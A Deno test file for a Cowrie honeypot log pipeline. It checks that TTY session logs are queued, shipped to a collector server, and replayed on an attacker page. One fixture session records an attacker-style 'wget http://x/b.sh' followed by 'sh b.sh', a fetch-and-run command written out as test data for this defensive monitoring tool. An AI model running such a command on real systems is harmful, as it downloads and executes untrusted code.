/**
 * Shipping Cowrie TTY logs: the shipper against a real in-process server (queue kept across a
 * restart while the server is unreachable, missing and mismatching files given up and counted),
 * then the real collector process with `--ttylog-dir` and `--once` against the real server.
 */
import assert from "node:assert/strict";
import { TtylogShipper } from "../../collector/ttylog_ship.ts";
import { ttylogMeta } from "../../lib/ttylog_store.ts";
import { startServer as startInProcess, TOKEN as IN_PROCESS_TOKEN } from "../_helpers.ts";
import { ttySession } from "../_ttylog.ts";
import { collectorArgs, spawn, startServer } from "./_procs.ts";

const T0 = Date.UTC(2026, 11, 5, 11, 0, 0);

function closedPort(): number {
  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (l.addr as Deno.NetAddr).port;
  l.close();
  return port;
}

Deno.test("ttylog shipper - the queue survives a restart while the server is unreachable; bad files are given up and counted", async () => {
  const dir = await Deno.makeTempDir({ prefix: "hw-tty-" });
  const srv = await startInProcess();
  try {
    const ttyDir = `${dir}/tty`;
    const stateDir = `${dir}/state`;
    await Deno.mkdir(ttyDir);
    await Deno.mkdir(stateDir);
    const a = await ttySession("192.0.2.61", "aaaaaaaaaaaa", T0, ["uname -a"], ["Linux"]);
    const b = await ttySession("192.0.2.62", "bbbbbbbbbbbb", T0, ["id"], ["uid=0(root)"]);
    const closedA = a.events.find((e) => e.eventid === "cowrie.log.closed")!;
    const closedB = b.events.find((e) => e.eventid === "cowrie.log.closed")!;
    await Deno.writeFile(`${ttyDir}/${a.sha256}`, a.bytes);

    const base = {
      token: IN_PROCESS_TOKEN,
      sensor: "tty1",
      dir: ttyDir,
      stateDir,
      backoffMs: { initial: 20, max: 100 },
    };
    const down = new TtylogShipper({ ...base, server: `ws://127.0.0.1:${closedPort()}/ingest` });
    await down.open();
    down.offer(closedA);
    down.offer(closedA); // read again after a restart: queued once
    down.offer({ eventid: "cowrie.login.failed", ttylog: "x" }); // not a log.closed
    await new Promise((r) => setTimeout(r, 300));
    await down.close();
    assert.equal(down.stats.queued, 1);
    assert.equal(down.stats.shipped, 0);
    const saved = JSON.parse(await Deno.readTextFile(`${stateDir}/ttylogs.json`));
    assert.deepEqual(saved, [{
      sha256: a.sha256,
      file: a.sha256,
      session: "aaaaaaaaaaaa",
      ip: "192.0.2.61",
    }]);

    const up = new TtylogShipper({ ...base, server: `${srv.wsUrl}/ingest`, missingTries: 2 });
    await up.open(); // takes the saved queue
    up.offer(closedB); // its file is missing
    // A file under B's name whose bytes are not B's log.
    await Deno.writeFile(`${ttyDir}/cccc`, new TextEncoder().encode("not a tty log"));
    up.offer({ ...closedB, session: "cccccccccccc", ttylog: "var/lib/cowrie/tty/cccc" });
    await up.idle();
    await up.close();
    assert.deepEqual(up.stats, { shipped: 1, duplicate: 0, missing: 1, refused: 1, queued: 0 });
    const meta = await ttylogMeta(srv.kv, a.sha256);
    assert.equal(meta?.session, "aaaaaaaaaaaa");
    assert.equal(meta?.sensor, "tty1");
    assert.deepEqual(JSON.parse(await Deno.readTextFile(`${stateDir}/ttylogs.json`)), []);
  } finally {
    await srv.close();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("collector --ttylog-dir - ships each finished session's TTY log; the attacker page replays it", async () => {
  const dir = await Deno.makeTempDir({ prefix: "hw-tty-proc-" });
  let server: Awaited<ReturnType<typeof startServer>> | undefined;
  try {
    const ttyDir = `${dir}/tty`;
    await Deno.mkdir(ttyDir);
    const ip = "192.0.2.70";
    const s = await ttySession(ip, "5e5510470000", Date.now() - 30_000, ["wget http://x/b.sh", "sh b.sh"], [
      "Saving to: 'b.sh'",
      "installing...",
    ]);
    await Deno.writeFile(`${ttyDir}/${s.sha256}`, s.bytes);
    await Deno.writeTextFile(`${dir}/cowrie.json`, s.events.map((e) => JSON.stringify(e) + "\n").join(""));
    server = await startServer(`${dir}/hw.kv`);
    const c = spawn(
      "collector",
      collectorArgs(
        server.port,
        `${dir}/state`,
        "vmtty",
        ["--from-start", "--once", "--ttylog-dir", ttyDir],
        [
          `${dir}/cowrie.json`,
        ],
      ),
    );
    const status = await c.exitWithin(60_000);
    assert.equal(status.code, 0, c.output);
    assert.match(c.output, /TTY logs.*"shipped":1/);
    const base = `http://127.0.0.1:${server.port}`;
    const tty = await (await fetch(`${base}/api/ttylogs/${s.sha256}`)).json();
    assert.equal(tty.sensor, "vmtty");
    assert.equal(tty.session, "5e5510470000");
    assert.ok(tty.lines.some((l: { text: string }) => l.text === "Saving to: 'b.sh'"));
    const page = await (await fetch(`${base}/ip/${ip}`)).text();
    assert.ok(page.includes(`"ttylog":"${s.sha256}"`), "the replay island plays the TTY log");
  } finally {
    await server?.proc.kill();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("collector --ttylog-dir - a missing directory is a usage error", async () => {
  const c = spawn("collector", [
    "run",
    "-A",
    "collector/main.ts",
    "--server",
    "ws://127.0.0.1:1/ingest",
    "--token",
    "t",
    "--sensor",
    "vm1",
    "--ttylog-dir",
    "/nonexistent/tty",
    "cowrie.json",
  ]);
  const status = await c.exitWithin(30_000);
  assert.notEqual(status.code, 0);
  assert.match(c.output, /--ttylog-dir is "\/nonexistent\/tty": not a directory/);
});
